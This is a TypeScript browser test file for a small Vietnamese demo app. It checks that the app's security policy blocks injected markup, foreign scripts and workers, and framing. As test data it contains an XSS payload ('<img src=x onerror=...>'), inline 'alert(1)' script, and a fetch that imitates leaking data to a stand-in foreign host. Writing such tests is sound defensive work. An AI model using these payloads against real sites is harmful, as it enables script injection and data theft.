// What the app's own page may not do in a browser, whoever makes it try.

import { env } from 'node:process';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { FLAGS, PATIENCE_MS } from '#test/support/phone-browser.ts';
import { type DemoServer, serveSmallDemo } from '#test/support/small-demo.ts';
import { enrol, seesHeading } from './member-steps.ts';

let home: DemoServer;
let browser: Browser;
let page: Page;

beforeAll(async () => {
  home = await serveSmallDemo();
  browser = await chromium.launch({
    executablePath: env['CHROMIUM_PATH'] ?? 'chromium',
    args: [...FLAGS],
  });
  page = await browser.newPage();
  page.setDefaultTimeout(PATIENCE_MS);
  await enrol(page, home.origin + home.linkOf('Cán bộ xã Sơn Động'), 'Máy ở trụ sở');
  await seesHeading(page, 'Xã Sơn Động');
});

afterAll(async () => {
  await browser?.close();
  await home?.stop();
});

/** The name of the error that a try ends with. */
const tryTo = (source: string): Promise<string> =>
  page.evaluate(
    ([text = '']) => {
      const element = document.createElement('div');
      const tries: Readonly<Record<string, () => unknown>> = {
        markup: () => (element.innerHTML = '<img src=x onerror="alert(1)">'),
        'markup that was parsed': () => new DOMParser().parseFromString('<p>', 'text/html'),
        'a worker of its own': () => new Worker('/sw.js').terminate(),
        'a worker from elsewhere': () => new Worker('https://khac.example/a.js'),
        'a script from elsewhere': () => {
          document.createElement('script').src = 'https://khac.example/a.js';
        },
        'a script of a text': () => (document.createElement('script').text = 'alert(1)'),
        'a policy of its own': () =>
          (
            globalThis as unknown as { trustedTypes: { createPolicy(name: string): unknown } }
          ).trustedTypes // this browser has it
            .createPolicy('own'),
      };
      try {
        tries[text]?.();
        return text in tries ? 'nothing' : 'no such try';
      } catch (error) {
        return error instanceof Error ? error.name : 'thrown';
      }
    },
    [source],
  );

test.each([
  'markup',
  'markup that was parsed',
  'a worker from elsewhere',
  'a script from elsewhere',
  'a script of a text',
  'a policy of its own',
])('%s is refused', async (source) => {
  expect(await tryTo(source)).toBe('TypeError');
});

test('another site is sent nothing, and this one is no part of another', async () => {
  const sent = await page.evaluate(() =>
    fetch('https://khac.example/?leak=1', { mode: 'no-cors' }).then(
      () => 'sent',
      (error: unknown) => (error instanceof Error ? error.message : 'thrown'),
    ),
  );
  expect(sent).toMatch(/Failed to fetch|violates/u);
  const isFramed = await page.evaluate(
    (address) =>
      new Promise((resolve) => {
        const frame = document.createElement('iframe');
        document.addEventListener('securitypolicyviolation', ({ violatedDirective }) =>
          resolve(violatedDirective),
        );
        frame.src = address;
        document.body.append(frame);
      }),
    `${home.origin}/healthz`,
  );
  expect(isFramed).toBe('frame-src');
});

test('an address of answers shows nothing when it is typed or linked to', async () => {
  const typed = await browser.newPage();
  const answer = await typed.goto(`${home.origin}/api/sign-in`);
  expect(answer?.status()).toBe(403);
  expect(await answer?.json()).toMatchObject({ code: 'site-unknown' });
  await typed.close();
});

test('the app works under it, and its workers run', async () => {
  expect(await tryTo('a worker of its own')).toBe('nothing');
  const state = await page.evaluate(
    async () => (await navigator.serviceWorker.ready).active?.state,
  );
  expect(['activating', 'activated']).toContain(state);
});
